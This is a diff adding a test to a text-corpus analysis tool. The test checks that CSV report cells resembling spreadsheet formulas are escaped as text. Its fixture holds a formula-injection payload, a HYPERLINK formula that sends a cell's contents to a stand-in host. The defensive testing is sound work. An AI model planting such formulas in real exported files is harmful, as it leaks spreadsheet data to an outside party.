@@ -346,3 +346,19 @@ def test_report_options_that_would_be_ignored_are_refused(scanned):
                  ("--against", root / "grouped", "--no-figures")):
         res = invoke("report", root / "grouped", *args)
         assert res.exit_code == 2 and len(res.stderr.strip().splitlines()) == 1, (args, res.stderr)
+
+
+def test_a_group_value_that_reads_as_a_spreadsheet_formula_is_written_as_text(tmp_path, make_jsonl):
+    """Group values come from the corpus: a cell such as ``=HYPERLINK(...)`` would run when the
+    CSV is opened in a spreadsheet. It gets a leading ``'``; negative numbers stay numbers."""
+    formula = '=HYPERLINK("http://x.test/?"&A1,"click")'
+    make_jsonl("a.jsonl", [{"text": "She is here.", "source": formula}, {"text": "He is.", "source": "-12"},
+                           {"text": "They are.", "source": "@SUM(1)"}])
+    out = tmp_path / "o"
+    assert invoke("scan", tmp_path / "corpus", "--out", out, "--analyzers", "pronouns", "--languages", "all", "-q",
+                  "--group-by", "source").exit_code == 0
+    text = report(out, "-f", "csv", "--group-by", "source")
+    cells = {r["group_value"] for r in csv.DictReader(io.StringIO(text))}
+    assert {"'" + formula, "-12", "'@SUM(1)"} <= cells, cells
+    every = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in every if c.startswith(("=", "+", "@"))], [c for c in every if c[:1] in "=+@"]
